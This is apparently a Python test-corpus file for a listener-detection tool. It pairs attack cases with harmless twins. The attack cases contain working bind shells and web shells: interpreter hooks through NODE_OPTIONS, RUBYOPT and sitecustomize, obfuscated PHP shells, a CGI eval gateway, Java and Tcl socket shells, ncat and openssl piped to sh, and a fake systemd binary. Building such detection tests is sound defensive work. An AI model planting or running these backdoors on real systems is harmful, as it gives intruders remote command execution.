"""Ways in that a server's own script does not tell: hooks, pages, pipelines; and their twins."""

from __future__ import annotations

import re

from tests.corpus.case import Case, Kind

_A, _O = Kind.ATTACK, Kind.ORDINARY
_SHELL, _PIPE = "shell-on-socket", "pipe-to-shell"
_TOOLS = frozenset({"node", "perl", "ruby", "php", "java", "tclsh", "gunicorn", "ncat", "openssl"})
_NAME = re.compile(r"@(\w+)@")


def _text(text: str) -> str:
    """With ``@port@`` and the like for what is filled in, so that code may be as it is."""
    return _NAME.sub(r"{\1}", text.replace("{", "{{").replace("}", "}}"))


def case(
    name: str,
    kind: Kind,
    words: tuple[str, ...],
    *files: tuple[str, str],
    code: str | None = None,
    env: str = "",
    at_least: str = "risky",
    needs: tuple[str, ...] = (),
) -> Case:
    """In a folder of its own; ``env`` is one variable."""
    variable, _, value = env.partition("=")
    return Case(
        name,
        kind,
        tuple(_text(word) for word in words),
        (*needs, *(tool for tool in _TOOLS if any(tool in word.split() for word in words))),
        at_least,
        code=code,
        files=tuple((f"{{home}}/{path}", _text(text)) for path, text in files),
        env=((variable, _text(value)),) if env else (),
        cwd="{home}",
    )


def _piped(name: str, pipeline: str) -> Case:
    return case(name, _A, ("sh", "-c", pipeline), code=_PIPE, at_least="suspicious")


_NODE = (
    "require('net').createServer(c => c.on('data', d =>"
    " require('child_process').exec(d + '', (e, o) => c.write(o)))).listen(@port@, '127.0.0.1')"
)
_WAITS_NODE = "require('http').createServer((q, r) => r.end()).listen(@port@, '127.0.0.1')"
_RUBY = (
    "require 'socket'\nThread.new { s = TCPServer.new('127.0.0.1', @port@)\n"
    "loop { c = s.accept; fork { $stdin.reopen(c); $stdout.reopen(c); exec '/bin/sh' } } }\n"
)
_PYTHON = (
    "import socket, subprocess, threading\n"
    "def serve():\n    s = socket.create_server(('127.0.0.1', @port@))\n    while True:\n"
    "        c, _ = s.accept()\n        subprocess.Popen('sh', stdin=c, stdout=c)\n"
    "threading.Thread(target=serve, daemon=True).start()\n"
)
_COMMANDS = (
    "import os\ndef app(e, start):\n    start('200 OK', [])\n"
    "    return [os.popen(e['QUERY_STRING']).read().encode()]\n"
)
_REVISION = (
    "import subprocess\nREVISION = subprocess.getoutput('git --version')\n"
    "def app(e, start):\n    start('200 OK', [])\n"
    "    return [(e['PATH_INFO'] + REVISION).encode()]\n"
)
_JAVA = (
    "import java.net.*; public class A { public static void main(String[] a) throws Exception {"
    ' var s = new ServerSocket(@port@, 5, InetAddress.getByName("127.0.0.1"));'
    " while (true) { var c = s.accept(); var p = new ProcessBuilder(BODY).start();"
    " p.getInputStream().transferTo(c.getOutputStream()); c.close(); } } }"
)
_TCL = (
    "proc peer {c host port} {BODY}\nsocket -server peer -myaddr 127.0.0.1 @port@\nvwait forever\n"
)
_SER2NET = (
    "connection: &one\n    accepter: tcp,127.0.0.1,@port@\n    connector: 'stdio(),/bin/sh -i'\n"
)
_SERVER = ("@python@", "-m", "http.server", "--cgi", "--bind", "127.0.0.1", "@port@")
_PHP = ("php", "-S", "127.0.0.1:@port@", "-t", "@home@/web")
_CERTIFICATE = (
    "openssl req -x509 -newkey rsa:2048 -nodes -keyout k -out c -days 1 -subj /CN=x 2>/dev/null;"
)
_DEEP = (
    "import socket, subprocess\ndef go():\n    s = socket.create_server(('127.0.0.1', @port@))\n"
    "    while True:\n        c, _ = s.accept()\n"
    "        subprocess.call(['sh'], stdin=c, stdout=c)\n"
)

SIDE_DOORS = (
    case(
        "hook of node by a variable",
        _A,
        ("node", "-e", "setInterval(() => 0, 9e5)"),
        ("h.js", _NODE),
        code=_SHELL,
        env="NODE_OPTIONS=--require @home@/h.js",
    ),
    case(
        "hook of ruby by a variable",
        _A,
        ("ruby", "-e", "sleep"),
        ("h.rb", _RUBY),
        code=_SHELL,
        env="RUBYOPT=-r@home@/h.rb",
    ),
    case(
        "start of python by a variable",
        _A,
        ("@python@", "-c", "import time; time.sleep(9e5)"),
        ("lib/sitecustomize.py", _PYTHON),
        code=_SHELL,
        env="PYTHONPATH=@home@/lib",
    ),
    case(
        "page that is a shell",
        _A,
        _PHP,
        ("web/index.php", "<?php echo '<pre>'.shell_exec($_REQUEST['c']).'</pre>';"),
        code=_SHELL,
    ),
    case(
        "page that hides that it is a shell",
        _A,
        _PHP,
        ("web/index.html", "x"),
        ("web/img/t.php", "<?php $f = 'sys'.'tem'; $f($_POST['q']);"),
        code=_SHELL,
    ),
    case(
        "gateway that carries out what it is asked",
        _A,
        _SERVER,
        ("cgi-bin/x.sh", '#!/bin/sh\necho; read -r line; eval "$line"\n'),
        code=_SHELL,
    ),
    case(
        "application in another folder",
        _A,
        ("gunicorn", "-b", "127.0.0.1:@port@", "--chdir", "@home@/web", "shop:app"),
        ("web/shop.py", _COMMANDS),
        code=_SHELL,
    ),
    case(
        "module of a module",
        _A,
        ("@python@", "@home@/one.py"),
        ("one.py", "import two\n"),
        ("two.py", "import three\nthree.go()\n"),
        ("three.py", _DEEP),
        code=_SHELL,
    ),
    case(
        "code in a file of data",
        _A,
        ("@python@", "@home@/one.py"),
        ("one.py", "exec(open('data.bin').read())\ngo()\n"),
        ("data.bin", _DEEP),
        code=_SHELL,
    ),
    case(
        "repl for a peer",
        _A,
        (
            *("node", "-e"),
            (
                "require('net').createServer(c => require('repl').start({input: c, output: c}))"
                ".listen(@port@, '127.0.0.1')"
            ),
        ),
        code=_SHELL,
    ),
    case(
        "shell of a java source",
        _A,
        ("java", "@home@/A.java"),
        ("A.java", _JAVA.replace("BODY", '"/bin/sh", "-i"')),
        code=_SHELL,
    ),
    case(
        "shell of a tcl script",
        _A,
        ("tclsh", "@home@/a.tcl"),
        ("a.tcl", _TCL.replace("BODY", 'set s [open "|sh -i 2>@1" r+]; fcopy $c $s')),
        code=_SHELL,
    ),
    case(
        "ser2net to a shell",
        _A,
        ("/usr/sbin/ser2net", "-d", "-c", "@home@/s.yaml"),
        ("s.yaml", _SER2NET),
        code=_PIPE,
        at_least="suspicious",
        needs=("ser2net",),
    ),
    _piped("ncat into xargs", "ncat -lk 127.0.0.1 @port@ | xargs -I% sh -c %"),
    _piped("ncat into an interpreter", "ncat -lk 127.0.0.1 @port@ | perl"),
    _piped("ncat into a shell by way of tee", "ncat -lk 127.0.0.1 @port@ | tee log | sh"),
    _piped(
        "openssl s_server into a shell",
        f"{_CERTIFICATE} openssl s_server -quiet -accept 127.0.0.1:@port@ -key k -cert c | sh",
    ),
    Case(
        "part of systemd in /opt",
        _A,
        ("/opt/portwatch-corpus-{port}/systemd-resolved", "{port}"),
        ("cc", "root"),
        code="masquerade",
        copies=(("{listener}", "/opt/portwatch-corpus-{port}/systemd-resolved"),),
    ),
)

SIDE_DOOR_TWINS = (
    case(
        "setting by a hook of node",
        _O,
        ("node", "-e", _WAITS_NODE),
        ("h.js", "process.env.STAGE = 'test'"),
        env="NODE_OPTIONS=--require @home@/h.js",
    ),
    case(
        "coverage at the start of python",
        _O,
        ("@python@", "-m", "http.server", "--bind", "127.0.0.1", "@port@"),
        ("lib/sitecustomize.py", "import sys\nsys.dont_write_bytecode = True\n"),
        env="PYTHONPATH=@home@/lib",
    ),
    case(
        "page with a version",
        _O,
        _PHP,
        (
            "web/index.php",
            (
                "<?php $f = 'strtoupper'; echo $f(htmlspecialchars($_GET['n'] ?? '')),"
                " shell_exec('git --version');"
            ),
        ),
    ),
    case(
        "gateway that tells the time",
        _O,
        _SERVER,
        (
            "cgi-bin/x.sh",
            '#!/bin/sh\necho\ncase "$QUERY_STRING" in utc) date -u;; *) date;; esac\n',
        ),
    ),
    case(
        "application with its revision",
        _O,
        ("gunicorn", "-b", "127.0.0.1:@port@", "--chdir", "@home@/web", "shop:app"),
        ("web/shop.py", _REVISION),
    ),
    case(
        "java source that asks for free space",
        _O,
        ("java", "@home@/A.java"),
        ("A.java", _JAVA.replace("BODY", '"/bin/sh", "-c", "df -h"')),
    ),
    case(
        "tcl script with a report",
        _O,
        ("tclsh", "@home@/a.tcl"),
        ("a.tcl", _TCL.replace("BODY", 'set s [open "|sh report.sh" r]; fcopy $s $c')),
    ),
    case(
        "log into xargs",
        _O,
        (
            *("sh", "-c"),
            (
                "@python@ -u -m http.server --bind 127.0.0.1 @port@ 2>&1"
                " | xargs -I% sh -c 'printf %s % >> log'"
            ),
        ),
    ),
    case(
        "log into an interpreter by way of tee",
        _O,
        ("sh", "-c", f'node -e "{_WAITS_NODE}" | tee log | perl -ne "print if /error/"'),
        needs=("node", "perl"),
    ),
    case(
        "openssl s_server for browsers",
        _O,
        (
            *("sh", "-c"),
            f"{_CERTIFICATE} exec openssl s_server -www -accept 127.0.0.1:@port@ -key k -cert c",
        ),
    ),
)
